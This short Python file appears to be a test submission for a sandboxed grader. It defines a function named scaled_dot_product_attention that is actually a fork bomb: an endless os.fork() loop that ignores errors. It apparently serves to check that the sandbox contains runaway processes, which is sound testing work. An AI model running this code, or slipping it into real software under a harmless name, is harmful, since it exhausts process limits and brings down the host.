"""Processes that each make two more."""

EARNS = {"attention": 0}
SEEN = "too many processes"

raise SystemExit(__doc__)  # a submission: it runs in a cage alone


# %% scaled_dot_product_attention
def scaled_dot_product_attention(*arguments):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
